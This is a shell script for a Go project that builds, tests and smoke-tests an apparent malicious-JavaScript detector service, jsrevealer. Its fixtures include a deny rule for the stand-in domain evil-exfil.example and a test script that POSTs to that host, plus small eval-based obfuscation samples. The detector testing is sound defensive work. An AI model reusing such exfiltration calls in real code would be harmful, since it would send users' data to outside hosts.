#!/bin/sh
# check.sh: the full local verification gate — static checks, a clean
# build, the full test suite, and the race detector over every package
# with concurrency. CI and pre-commit hooks should call this (or
# `make check`, which wraps it).
set -eu

cd "$(dirname "$0")/.."

echo "==> go vet ./..."
go vet ./...

echo "==> gofmt -l ."
test -z "$(gofmt -l .)" || { gofmt -l . >&2; echo "files above are not gofmt-formatted" >&2; exit 1; }

echo "==> doc coverage (scripts/doccheck.sh)"
sh scripts/doccheck.sh

echo "==> go build ./..."
go build ./...

# Dead-package gate: every internal package must be imported by at least
# one non-test package. A package only its own tests exercise is dead code
# that still costs review, vet, and test time; delete it instead.
echo "==> dead-package check (every ./internal/... package has a non-test importer)"
imported=$(go list -f '{{join .Imports "\n"}}' ./... | sort -u)
for pkg in $(go list ./internal/...); do
    echo "$imported" | grep -qx "$pkg" || {
        echo "$pkg is imported by no non-test package" >&2; exit 1; }
done

echo "==> go test ./..."
go test ./...

# Race pass: -short skips the multi-minute single-goroutine soak tests the
# plain run above already covered, and internal/experiments is excluded —
# its full-pipeline table regeneration is sequential orchestration of
# already-race-checked stages and exceeds any reasonable budget under the
# race detector. All concurrency tests (the scan engine's worker pool, the
# detector's concurrent-use tests) run here.
echo "==> go test -race -short (all packages except internal/experiments)"
go test -race -short $(go list ./... | grep -v internal/experiments)

# The durable queue is crash-recovery code: its full suite (including the
# slow lease-expiry and reaper tests that -short skips elsewhere) runs
# under the race detector unconditionally.
echo "==> go test -race ./internal/queue/..."
go test -race ./internal/queue/...

# The triage tier is a correctness-critical fast path — a false negative
# skips the detector entirely — so its full suite (including the
# adversarial obfuscator/pathological corpus) runs under the race detector
# unconditionally.
echo "==> go test -race ./internal/triage/..."
go test -race ./internal/triage/...

# The deobfuscation pipeline rewrites per-scan AST state inside the scan
# engine's worker pool, so its full suite (pass unit tests, the fuzz seed
# corpus, and the print→re-parse idempotence checks) runs under the race
# detector unconditionally.
echo "==> go test -race ./internal/deobfuscate/..."
go test -race ./internal/deobfuscate/...

# The rules engine evaluates hot-reloadable rule sets inside the scan
# engine's worker pool, and the alert sink delivers webhooks from its own
# goroutine, so both full suites (hostile rule files, the fuzz seed corpus,
# reload-under-load, alert backpressure) run under the race detector
# unconditionally.
echo "==> go test -race ./internal/rules/... ./internal/alert/..."
go test -race ./internal/rules/... ./internal/alert/...

# Serve smoke test: build the CLI, train a tiny model, start the scan
# service on an ephemeral port (-ready-file publishes the resolved
# address), and exercise the full serving surface: /healthz, /metrics, a
# streaming NDJSON batch on /scan with a caller traceparent (retrieved
# back from /debug/traces and matched against the audit trail), an async
# job submitted and polled to completion, a hot-reload via /admin/reload
# and SIGHUP, and the admission/queue metric families. Finally verify the
# ready-file is removed on graceful shutdown.
echo "==> jsrevealer serve smoke test"
tmpdir=$(mktemp -d)
# serve_pid is set before the trap so an early failure (under set -u) still
# runs a clean trap; the trap waits for the server, which drains for up to
# 5 s after SIGTERM, so no serve process outlives the script.
serve_pid=
trap 'if [ -n "$serve_pid" ]; then kill "$serve_pid" 2>/dev/null || true; wait "$serve_pid" 2>/dev/null || true; fi; rm -rf "$tmpdir"' EXIT
go build -o "$tmpdir/jsrevealer" ./cmd/jsrevealer
"$tmpdir/jsrevealer" train -benign 25 -malicious 25 -seed 7 \
    -model "$tmpdir/model.json" >/dev/null

# Deob CLI smoke: the standalone normalizer must strip the opaque
# predicate, unwrap the eval-of-literal, and fold the string halves.
printf '%s' 'if (!![]) { eval("var x = \"a\" + \"b\";"); }' \
    | "$tmpdir/jsrevealer" deob 2>/dev/null > "$tmpdir/deobcli.out"
grep -q 'var x = "ab";' "$tmpdir/deobcli.out" || {
    echo "deob CLI did not normalize the smoke input" >&2; exit 1; }

# Rule set fixture: one deny-listed exfiltration domain. The smoke server
# loads it at startup and hot-reloads it on SIGHUP alongside the model.
mkdir -p "$tmpdir/rules"
printf '%s\n' '{"version":1,"deny":[{"id":"exfil-c2","severity":"critical","domains":["evil-exfil.example"]}]}' \
    > "$tmpdir/rules/deny.json"
"$tmpdir/jsrevealer" serve -addr 127.0.0.1:0 -model "$tmpdir/model.json" \
    -audit-dir "$tmpdir/audit" -ready-file "$tmpdir/addr" -log-level warn \
    -triage-threshold 0.30 -rules-dir "$tmpdir/rules" &
serve_pid=$!
for _ in $(seq 1 100); do
    [ -s "$tmpdir/addr" ] && break
    sleep 0.1
done
[ -s "$tmpdir/addr" ] || { echo "serve never published its address" >&2; exit 1; }
addr=$(cat "$tmpdir/addr")
curl -fsS -o "$tmpdir/healthz" "http://$addr/healthz"
grep -q '"status":"ok"' "$tmpdir/healthz" || {
    echo "/healthz unhealthy" >&2; exit 1; }

# Streaming batch: four NDJSON records in, one verdict line out per
# script. The first three are below triage's size floor and escalate to
# the full pipeline; long.js is big enough and boring enough to be cleared
# by the triage tier, which must show up in its verdict line.
printf '%s\n' \
    '{"name":"a.js","source":"var a = 1;"}' \
    '{"name":"b.js","source":"function f() { return 2; }"}' \
    '{"name":"c.js","source":"var s = unescape(\"%61\"); eval(s);"}' \
    '{"name":"long.js","source":"function add(a, b) { return a + b; } function sub(a, b) { return a - b; } var total = add(2, 3) + sub(9, 4); console.log(total);"}' \
    > "$tmpdir/batch.ndjson"
trace_id=4bf92f3577b34da6a3ce929d0e0e4736
curl -fsS -X POST --data-binary @"$tmpdir/batch.ndjson" \
    -H "traceparent: 00-$trace_id-00f067aa0ba902b7-01" \
    -o "$tmpdir/scanout" "http://$addr/scan"
[ "$(wc -l < "$tmpdir/scanout")" -eq 4 ] || {
    echo "/scan did not stream 4 verdict lines" >&2; exit 1; }
grep -q '"verdict"' "$tmpdir/scanout" || {
    echo "/scan lines missing verdicts" >&2; exit 1; }
grep -q '"name":"long.js".*"tier":"triage"' "$tmpdir/scanout" || {
    echo "/scan did not clear long.js through the triage tier" >&2; exit 1; }

# Deobfuscation provenance: a per-request ?deobfuscate=1 scan of a script
# with foldable string halves must name the passes that fired in its NDJSON
# verdict line and in the audit trail.
printf '%s\n' \
    '{"name":"obf.js","source":"var h = \"ev\" + \"al\"; if (!![]) { var y = \"a\" + \"b\"; }"}' \
    > "$tmpdir/deob.ndjson"
curl -fsS -X POST --data-binary @"$tmpdir/deob.ndjson" \
    -o "$tmpdir/deobout" "http://$addr/scan?deobfuscate=1"
grep -q '"deob_passes":\[' "$tmpdir/deobout" || {
    echo "/scan?deobfuscate=1 missing deob_passes provenance" >&2; exit 1; }
deob_audit=""
for _ in $(seq 1 50); do
    if grep -q '"deob_passes":\[' "$tmpdir/audit/audit.ndjson" 2>/dev/null; then
        deob_audit=1; break
    fi
    sleep 0.1
done
[ -n "$deob_audit" ] || {
    echo "audit trail missing deob_passes provenance" >&2; exit 1; }

# Trace retention: the caller's trace id must be retrievable from
# /debug/traces with the serve root span and the engine's file spans.
trace_ok=""
for _ in $(seq 1 50); do
    if curl -fsS -o "$tmpdir/trace" "http://$addr/debug/traces/$trace_id" \
        && grep -q '"serve.scan"' "$tmpdir/trace" \
        && grep -q '"scan.file"' "$tmpdir/trace"; then
        trace_ok=1; break
    fi
    sleep 0.1
done
[ -n "$trace_ok" ] || {
    echo "/debug/traces/$trace_id missing the scan waterfall" >&2; exit 1; }

# Audit trail: one NDJSON line per verdict, carrying the content SHA-256
# and the caller's trace id. The expected digest is sha256("var a = 1;").
audit_sha=f9d67ab9db16c4d56819f49c02aeede48205e5425be05e918636cdea87b5a78c
audit_ok=""
for _ in $(seq 1 50); do
    if grep -q "\"sha256\":\"$audit_sha\"" "$tmpdir/audit/audit.ndjson" 2>/dev/null \
        && grep -q "\"trace_id\":\"$trace_id\"" "$tmpdir/audit/audit.ndjson"; then
        audit_ok=1; break
    fi
    sleep 0.1
done
[ -n "$audit_ok" ] || {
    echo "audit trail missing the scanned content's record" >&2; exit 1; }

# Rules engine: a deny-listed domain must flip an otherwise-benign script
# to MALICIOUS through /detect, with per-rule provenance in the JSON
# response and (asynchronously) the audit trail.
printf '%s' 'fetch("https://evil-exfil.example/collect", {method: "POST"});' \
    > "$tmpdir/deny.js"
curl -fsS -X POST --data-binary @"$tmpdir/deny.js" \
    -o "$tmpdir/denyout" "http://$addr/detect?name=deny.js"
grep -q '"verdict":"MALICIOUS"' "$tmpdir/denyout" || {
    echo "/detect did not convict the deny-listed script" >&2; exit 1; }
grep -q '"tier":"rules"' "$tmpdir/denyout" || {
    echo "/detect deny verdict missing the rules tier" >&2; exit 1; }
grep -q '"rule":"exfil-c2"' "$tmpdir/denyout" || {
    echo "/detect deny verdict missing rule_hits provenance" >&2; exit 1; }
rules_audit=""
for _ in $(seq 1 50); do
    if grep -q '"rule_hits":\[.*"rule":"exfil-c2"' "$tmpdir/audit/audit.ndjson" 2>/dev/null; then
        rules_audit=1; break
    fi
    sleep 0.1
done
[ -n "$rules_audit" ] || {
    echo "audit trail missing rule_hits provenance" >&2; exit 1; }

# Shadow validation: a broken rule file must be rejected with 422 while
# the previous rule set keeps serving (the deny hit above still fires).
printf '%s' '{"version":1,"deny":[' > "$tmpdir/rules/deny.json"
code=$(curl -s -o "$tmpdir/rulesfail" -w '%{http_code}' -X POST \
    "http://$addr/admin/reload-rules")
[ "$code" = "422" ] || {
    echo "/admin/reload-rules accepted a broken rule file (status $code)" >&2; exit 1; }
curl -fsS -X POST --data-binary @"$tmpdir/deny.js" \
    -o "$tmpdir/denyout2" "http://$addr/detect?name=deny2.js"
grep -q '"verdict":"MALICIOUS"' "$tmpdir/denyout2" || {
    echo "old rule set stopped serving after a failed reload" >&2; exit 1; }
# Restore the good rule file so the SIGHUP reload below succeeds.
printf '%s\n' '{"version":1,"deny":[{"id":"exfil-c2","severity":"critical","domains":["evil-exfil.example"]}]}' \
    > "$tmpdir/rules/deny.json"

# Async job: submit, then poll to completion.
job_id=$(curl -fsS -X POST --data-binary @"$tmpdir/batch.ndjson" \
    "http://$addr/jobs" | sed -n 's/.*"id":"\([0-9a-f.]*\)".*/\1/p')
[ -n "$job_id" ] || { echo "/jobs returned no id" >&2; exit 1; }
job_done=""
for _ in $(seq 1 100); do
    curl -fsS -o "$tmpdir/job" "http://$addr/jobs/$job_id"
    if grep -q '"state":"done"' "$tmpdir/job"; then job_done=1; break; fi
    sleep 0.1
done
[ -n "$job_done" ] || { echo "async job never completed" >&2; exit 1; }

# Hot reload: via the admin endpoint and via SIGHUP; both must land on the
# reload counter, and /version must report the live model.
curl -fsS -X POST -o "$tmpdir/reload" "http://$addr/admin/reload"
grep -q '"model_loaded":true' "$tmpdir/reload" || {
    echo "/admin/reload did not report the live model" >&2; exit 1; }
kill -HUP $serve_pid
reloaded=""
for _ in $(seq 1 50); do
    curl -fsS -o "$tmpdir/metrics" "http://$addr/metrics"
    if grep -q 'jsrevealer_serve_reloads_total{result="ok"} 3' "$tmpdir/metrics"; then
        reloaded=1; break
    fi
    sleep 0.1
done
[ -n "$reloaded" ] || { echo "SIGHUP reload never landed on /metrics" >&2; exit 1; }

# The same SIGHUP also reloads the rule set: initial load (1) plus the
# SIGHUP reload (2) on the ok counter, and the rejected broken file above
# on the error counter. Rules reloads must NOT touch the model's
# jsrevealer_serve_reloads_total counter (asserted at exactly 3 above).
rules_reloaded=""
for _ in $(seq 1 50); do
    curl -fsS -o "$tmpdir/metrics" "http://$addr/metrics"
    if grep -q 'jsrevealer_rules_reload_total{result="ok"} 2' "$tmpdir/metrics"; then
        rules_reloaded=1; break
    fi
    sleep 0.1
done
[ -n "$rules_reloaded" ] || {
    echo "SIGHUP rules reload never landed on /metrics" >&2; exit 1; }
grep -q 'jsrevealer_rules_reload_total{result="error"} 1' "$tmpdir/metrics" || {
    echo "/metrics missing the rejected rules reload" >&2; exit 1; }
curl -fsS -o "$tmpdir/version" "http://$addr/version"
grep -q '"sha256"' "$tmpdir/version" || {
    echo "/version missing model digest" >&2; exit 1; }
grep -q '"rules":{' "$tmpdir/version" || {
    echo "/version missing live rule-set provenance" >&2; exit 1; }

# Metric surface: scan families plus the serving subsystem's queue,
# admission, and latency families.
grep -q '^jsrevealer_scan_files_total' "$tmpdir/metrics" || {
    echo "/metrics missing scan metric families" >&2; exit 1; }
grep -q '^jsrevealer_stage_duration_seconds_bucket' "$tmpdir/metrics" || {
    echo "/metrics missing stage histograms" >&2; exit 1; }
grep -q '^jsrevealer_cache_hits_total' "$tmpdir/metrics" || {
    echo "/metrics missing verdict-cache counters" >&2; exit 1; }
grep -Eq '^jsrevealer_scan_tier_total\{tier="triage"\} [1-9]' "$tmpdir/metrics" || {
    echo "/metrics missing a non-zero triage tier counter" >&2; exit 1; }
grep -Eq '^jsrevealer_scan_tier_total\{tier="pipeline"\} [1-9]' "$tmpdir/metrics" || {
    echo "/metrics missing a non-zero pipeline tier counter" >&2; exit 1; }
grep -q '^jsrevealer_scan_tier_duration_seconds_bucket' "$tmpdir/metrics" || {
    echo "/metrics missing per-tier duration histograms" >&2; exit 1; }
grep -Eq '^jsrevealer_deob_pass_changes_total\{pass="[a-z]+"\} [1-9]' "$tmpdir/metrics" || {
    echo "/metrics missing non-zero deobfuscation pass counters" >&2; exit 1; }
grep -q '^jsrevealer_serve_queue_depth' "$tmpdir/metrics" || {
    echo "/metrics missing serve queue gauge" >&2; exit 1; }
grep -q '^jsrevealer_serve_admission_rejects_total' "$tmpdir/metrics" || {
    echo "/metrics missing admission reject counters" >&2; exit 1; }
grep -q '^jsrevealer_serve_jobs_total' "$tmpdir/metrics" || {
    echo "/metrics missing job counters" >&2; exit 1; }
grep -q '^jsrevealer_serve_request_duration_seconds' "$tmpdir/metrics" || {
    echo "/metrics missing per-endpoint latency histograms" >&2; exit 1; }
grep -q '^jsrevealer_audit_records_total' "$tmpdir/metrics" || {
    echo "/metrics missing audit record counters" >&2; exit 1; }
grep -Eq '^jsrevealer_rules_evals_total\{outcome="deny"\} [1-9]' "$tmpdir/metrics" || {
    echo "/metrics missing a non-zero rules deny counter" >&2; exit 1; }
grep -Eq '^jsrevealer_rules_hits_total\{rule="exfil-c2"\} [1-9]' "$tmpdir/metrics" || {
    echo "/metrics missing the per-rule hit counter" >&2; exit 1; }
grep -Eq '^jsrevealer_scan_tier_total\{tier="rules"\} [1-9]' "$tmpdir/metrics" || {
    echo "/metrics missing a non-zero rules tier counter" >&2; exit 1; }
grep -q '^jsrevealer_rules_alert_total' "$tmpdir/metrics" || {
    echo "/metrics missing alert delivery counters" >&2; exit 1; }

# Graceful shutdown removes the ready-file so the next run never reads a
# stale address.
kill $serve_pid
wait $serve_pid 2>/dev/null || true
serve_pid=
[ ! -e "$tmpdir/addr" ] || {
    echo "ready-file leaked after shutdown" >&2; exit 1; }

# Durable-queue kill -9 smoke: start serve with -queue-dir, submit a burst
# of async jobs, SIGKILL the process with no warning, restart it over the
# same directory, and require every accepted job to reach done — the
# crash-safety contract the WAL exists for.
echo "==> durable queue kill -9 smoke test"
qdir="$tmpdir/queue"
"$tmpdir/jsrevealer" serve -addr 127.0.0.1:0 -model "$tmpdir/model.json" \
    -queue-dir "$qdir" -ready-file "$tmpdir/addr2" -log-level warn &
serve_pid=$!
for _ in $(seq 1 100); do
    [ -s "$tmpdir/addr2" ] && break
    sleep 0.1
done
[ -s "$tmpdir/addr2" ] || {
    echo "durable serve never published its address" >&2; exit 1; }
addr=$(cat "$tmpdir/addr2")
job_ids=""
for _ in $(seq 1 5); do
    id=$(curl -fsS -X POST --data-binary @"$tmpdir/batch.ndjson" \
        "http://$addr/jobs" | sed -n 's/.*"id":"\([0-9a-f.]*\)".*/\1/p')
    [ -n "$id" ] || { echo "durable /jobs returned no id" >&2; exit 1; }
    job_ids="$job_ids $id"
done

kill -9 $serve_pid
wait $serve_pid 2>/dev/null || true
serve_pid=
rm -f "$tmpdir/addr2" # a SIGKILLed process never cleans up its ready-file

"$tmpdir/jsrevealer" serve -addr 127.0.0.1:0 -model "$tmpdir/model.json" \
    -queue-dir "$qdir" -ready-file "$tmpdir/addr3" -log-level warn &
serve_pid=$!
for _ in $(seq 1 100); do
    [ -s "$tmpdir/addr3" ] && break
    sleep 0.1
done
[ -s "$tmpdir/addr3" ] || {
    echo "durable serve never restarted" >&2; exit 1; }
addr=$(cat "$tmpdir/addr3")
for id in $job_ids; do
    job_done=""
    for _ in $(seq 1 100); do
        curl -fsS -o "$tmpdir/job" "http://$addr/jobs/$id"
        if grep -q '"state":"done"' "$tmpdir/job"; then job_done=1; break; fi
        sleep 0.1
    done
    [ -n "$job_done" ] || {
        echo "job $id did not survive kill -9 + restart" >&2; exit 1; }
done
curl -fsS -o "$tmpdir/metrics2" "http://$addr/metrics"
grep -q '^jsrevealer_queue_depth' "$tmpdir/metrics2" || {
    echo "/metrics missing durable queue depth gauge" >&2; exit 1; }
grep -q '^jsrevealer_queue_enqueued_total' "$tmpdir/metrics2" || {
    echo "/metrics missing durable queue counters" >&2; exit 1; }
grep -q '^jsrevealer_queue_recovered_total' "$tmpdir/metrics2" || {
    echo "/metrics missing durable queue recovery counter" >&2; exit 1; }
kill $serve_pid
wait $serve_pid 2>/dev/null || true
serve_pid=

# Flag-docs drift gate: every flag the serve and deob subcommands actually
# register must be mentioned (as `-flagname`) somewhere in README.md, so
# the operator docs cannot silently fall behind the binary. The flag list
# comes from the live -h output, not a hand-maintained list.
echo "==> flag docs drift check (serve/deob -h vs README.md)"
for sub in serve deob; do
    "$tmpdir/jsrevealer" "$sub" -h 2> "$tmpdir/help.$sub" || true
    flags=$(sed -n 's/^  -\([a-z][a-z-]*\).*/\1/p' "$tmpdir/help.$sub")
    [ -n "$flags" ] || { echo "no flags parsed from '$sub -h'" >&2; exit 1; }
    for f in $flags; do
        grep -q -- "-$f" README.md || {
            echo "README.md does not mention flag -$f from '$sub -h'" >&2; exit 1; }
    done
done

echo "==> OK"
